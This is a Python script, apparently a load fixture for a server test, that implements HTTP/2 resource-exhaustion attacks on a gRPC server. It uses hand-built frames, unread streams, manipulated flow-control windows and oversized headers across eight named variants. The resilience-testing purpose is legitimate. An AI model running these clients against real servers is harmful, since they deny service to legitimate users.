"""Clients that use up what they can: each opens as many calls as the server allows, and reads no answer.

Run as `python attackers.py NAME ADDRESS SECONDS`: a process of its own, so that what the honest clients of the test see
is the server's doing. Frames are made by hand (RFC 9113), as no library would send so many. A connection that the server
closes, or refuses everything on, is opened anew.
"""

import selectors
import socket
import struct
import sys
import time
from typing import Callable, Dict, NamedTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8
END_STREAM, END_HEADERS = 1, 4
# The answer to a ping that the server never sent, which it ignores.
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
FRAME_HEAD_BYTES = 9
WINDOW_BYTES_MAX = 2**31 - 1
# Bytes that are sent on one connection before the next one is served.
TURN_BYTES = 256 * 1024
# After which one that has asked for all it wants is replaced.
CONNECTION_SECONDS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


PING_ACK = frame(6, 1, 0, b"attacker")


def literal(text: bytes) -> bytes:
    """A string of HPACK (RFC 7541, section 5.2), without Huffman coding."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, head = len(text) - 127, [127]
    while rest >= 128:
        head.append(rest % 128 + 128)
        rest //= 128
    return bytes([*head, rest]) + text


def headers(path: str, *more: bytes) -> bytes:
    """A header block that uses no table, so that it is sent in full each time."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"a")]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    fields += [(b"x-more-%d" % index, value) for index, value in enumerate(more)]
    return b"".join(b"\x00" + literal(name) + literal(value) for name, value in fields)


def message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def text_field(number: int, text: bytes) -> bytes:
    return bytes([number << 3 | 2, len(text)]) + text


class Attack(NamedTuple):
    connections: int
    calls_of_each: int
    window_bytes: int
    # The frames of a call on this stream.
    call: Callable[[int], bytes]


def question(path: str, payload: bytes, *more: bytes) -> Callable[[int], bytes]:
    block, body = headers(path, *more), message(payload)
    return lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)


def unfinished(path: str, *more: bytes) -> Callable[[int], bytes]:
    block = headers(path, *more)
    return lambda stream: frame(HEADERS, END_HEADERS, stream, block)


def reflection(stream: int) -> bytes:
    """Many questions with long answers, but on each connection only as many bytes as the initial flow-control window allows."""
    asked = message(text_field(4, b"tally.v1.Tally"))
    return unfinished(REFLECTION)(stream) + frame(DATA, 0, stream, asked * 50)


REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
SUM = text_field(1, b"x") + text_field(2, b"csv")
GROUPS = text_field(1, b"key") + text_field(2, b"x")
LIST_PARTS = question("/tally.v1.Tally/ListParts", b"")
ATTACKS: Dict[str, Attack] = {
    "unread_lists": Attack(2, 125, WINDOW_BYTES_MAX, LIST_PARTS),
    "unread_lists_without_a_window": Attack(2, 125, 0, LIST_PARTS),
    "unread_reflection": Attack(16, 125, WINDOW_BYTES_MAX, reflection),
    "open_calls_with_headers_of_15_kib": Attack(
        100, 250, 65_535, unfinished("/Table/ColumnSum", b"h" * 15_000)
    ),
    "open_watches": Attack(100, 250, WINDOW_BYTES_MAX, question("/grpc.health.v1.Health/Watch", b"")),
    "sums_at_once": Attack(100, 250, WINDOW_BYTES_MAX, question("/Table/ColumnSum", SUM)),
    "unread_group_sums": Attack(16, 125, 0, question("/tally.v1.Tally/GroupSum", GROUPS)),
    "unread_refusals": Attack(100, 250, 0, question("/Table/ColumnSum", text_field(1, b"x") + text_field(2, b"xml"))),
}


class Client:
    """One connection of an attack, which is written to whenever the socket is writable, and never read."""

    def __init__(self, attack: Attack, address: str):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        window = struct.pack(">HI", INITIAL_WINDOW_SIZE, attack.window_bytes)
        # Of the connection: 65,535 bytes are open at the start.
        opened = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_BYTES_MAX - 65_535))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, window) + opened)
        # As many as the server allows: it closes a connection with many more.
        calls = min(attack.calls_of_each, self._streams_max())
        self.frames = map(attack.call, range(1, 2 * calls, 2))
        self.unsent = b""
        self.opened = time.monotonic()
        self.socket.setblocking(False)

    def _streams_max(self) -> int:
        """Of the server's settings, its first frame."""
        head = self._receive(FRAME_HEAD_BYTES)
        settings = self._receive(int.from_bytes(head[:3], "big"))
        pairs = dict(struct.unpack_from(">HI", settings, at) for at in range(0, len(settings), 6))
        return pairs.get(MAX_CONCURRENT_STREAMS, sys.maxsize)

    def _receive(self, count: int) -> bytes:
        received = b""
        while len(received) < count:
            some = self.socket.recv(count - len(received))
            if not some:
                raise ConnectionError("the server closed the connection")
            received += some
        return received

    def write(self) -> bool:
        """Sends some. Returns whether there is more to send."""
        written = 0
        while written < TURN_BYTES:
            self.unsent = self.unsent or next(self.frames, b"")
            if not self.unsent:
                return False
            try:
                sent = self.socket.send(self.unsent)
            except BlockingIOError:
                return True
            self.unsent = self.unsent[sent:]
            written += sent
        return True

    def is_over(self) -> bool:
        """Whether it is to be replaced: it has held what it could for a while, or was closed."""
        try:
            self.socket.send(PING_ACK)
        except BlockingIOError:
            pass
        except OSError:
            return True
        return time.monotonic() - self.opened > CONNECTION_SECONDS


def run(attack: Attack, address: str, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    writing = selectors.DefaultSelector()
    silent = []
    while time.monotonic() < deadline:
        while len(writing.get_map()) + len(silent) < attack.connections and time.monotonic() < deadline:
            try:
                client = Client(attack, address)
            except OSError:
                break
            writing.register(client.socket, selectors.EVENT_WRITE, client)
        for key, _events in writing.select(timeout=0.1):
            try:
                is_writing = key.data.write()
            except OSError:
                is_writing = False
            if not is_writing:
                writing.unregister(key.fileobj)
                silent.append(key.data)
        for client in [client for client in silent if client.is_over()]:
            silent.remove(client)
            client.socket.close()
        if not writing.get_map():
            time.sleep(0.05)


if __name__ == "__main__":
    run(ATTACKS[sys.argv[1]], sys.argv[2], float(sys.argv[3]))
